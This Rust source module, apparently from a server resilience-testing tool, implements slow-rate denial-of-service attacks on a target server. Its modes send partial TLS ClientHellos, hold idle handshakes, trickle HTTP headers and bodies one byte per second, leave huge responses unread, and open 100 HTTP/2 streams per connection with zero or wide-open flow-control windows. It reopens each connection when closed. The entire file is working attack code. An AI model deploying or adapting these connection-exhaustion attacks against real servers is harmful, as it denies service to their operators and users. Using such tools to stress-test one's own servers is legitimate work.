//! Connections that do as little as they can and hold what they can, opened again when they are closed.

use std::rc::Rc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, split};
use tokio::task::spawn_local;
use tokio::time::sleep;

use crate::flood::Seen;
use crate::frames::{frame, request};
use crate::meter::{Fault, Starter};
use crate::{AGAIN, Enemy};

/// What they do.
#[derive(Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Kind {
    /// A part of a ClientHello, then nothing
    Handshakes,
    /// Whole handshakes, one after another
    Churn,
    /// A handshake, then nothing
    Idle,
    /// A request head, a byte a second
    Heads,
    /// A request body, a byte a second
    Bodies,
    /// A large response over HTTP/1.1 of which nothing is read
    Readers,
    /// A hundred of them over HTTP/2, with open windows
    Readers2,
    /// A hundred of them with closed windows; what is sent is read
    Windows,
}

/// A response that no buffer takes whole.
const LARGE: &str = "/bytes/1000000000";

/// Attacks until stdin ends.
pub(crate) async fn run(enemy: Rc<Enemy>, kind: Kind, connections: usize) -> Result<(), Fault> {
    let seen = Rc::new(Seen::default());
    let mut starter = Starter::new();
    for turn in 0..connections {
        let (enemy, seen) = (Rc::clone(&enemy), Rc::clone(&seen));
        spawn_local(async move {
            // Not all in one instant: the queue of the listener would drop some, and they would wait for a second.
            sleep(Duration::from_millis(turn as u64)).await;
            loop {
                match connection(&enemy, kind, turn, &seen).await {
                    Ok(()) => seen.end("closed"),
                    Err(fault) => seen.end(fault.to_string()),
                }
                if kind != Kind::Churn {
                    sleep(AGAIN).await;
                }
            }
        });
    }
    starter.tell("ready");
    starter.end().await?;
    starter.tell(seen.report());
    Ok(())
}

/// One connection to its end.
async fn connection(enemy: &Enemy, kind: Kind, turn: usize, seen: &Seen) -> Result<(), Fault> {
    let is_reader = matches!(kind, Kind::Readers | Kind::Readers2);
    let mut tcp = enemy.tcp(turn, is_reader.then_some(4 << 10)).await?;
    seen.opened.set(seen.opened.get() + 1);
    if kind == Kind::Handshakes {
        tcp.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await?;
        tcp.read_u8().await.ok();
        return Ok(());
    }
    let alpn = if matches!(kind, Kind::Readers2 | Kind::Windows) { "h2" } else { "http/1.1" };
    let dialer = enemy.target.dialer(alpn, false)?;
    let (mut reader, mut writer) = split(dialer.open_on(tcp).await?);
    let host = &enemy.target.host;
    let start = match kind {
        Kind::Handshakes | Kind::Idle | Kind::Churn => String::new(),
        Kind::Heads => format!("GET / HTTP/1.1\r\nHost: {host}\r\nX: "),
        Kind::Bodies => format!("POST /upload HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000\r\n\r\n"),
        Kind::Readers => format!("GET {LARGE} HTTP/1.1\r\nHost: {host}\r\n\r\n"),
        Kind::Readers2 | Kind::Windows => String::new(),
    };
    writer.write_all(start.as_bytes()).await?;
    writer.flush().await?;
    let mut rest = vec![0; 16 << 10];
    match kind {
        Kind::Churn => Ok(()),
        Kind::Handshakes | Kind::Idle => {
            while matches!(reader.read(&mut rest).await, Ok(1..)) {}
            Ok(())
        }
        Kind::Heads | Kind::Bodies => loop {
            tokio::select! {
                read = reader.read(&mut rest) => if !matches!(read, Ok(1..)) { return Ok(()) },
                () = sleep(Duration::from_secs(1)) => {
                    writer.write_all(b"x").await?;
                    writer.flush().await?;
                }
            }
        },
        // Nothing is read; the connection's end is seen by a write in HTTP/1.1's case, where a byte is a pipelined one.
        Kind::Readers => loop {
            sleep(Duration::from_secs(1)).await;
            if writer.write_all(b"").await.is_err() {
                return Ok(());
            }
        },
        Kind::Readers2 | Kind::Windows => {
            let window: u32 = if kind == Kind::Windows { 0 } else { 0x7fff_ffff };
            let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
            writer.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await?;
            writer.write_all(&frame(4, 0, 0, &settings)).await?;
            writer.write_all(&frame(8, 0, 0, &0x7000_0000_u32.to_be_bytes())).await?;
            for stream in 0..100 {
                writer.write_all(&frame(1, 0x5, 2 * stream + 1, &request(host, "GET", LARGE))).await?;
                writer.flush().await?;
                seen.units.set(seen.units.get() + 1);
            }
            if kind == Kind::Windows {
                while matches!(reader.read(&mut rest).await, Ok(1..)) {}
                return Ok(());
            }
            std::future::pending().await
        }
    }
}
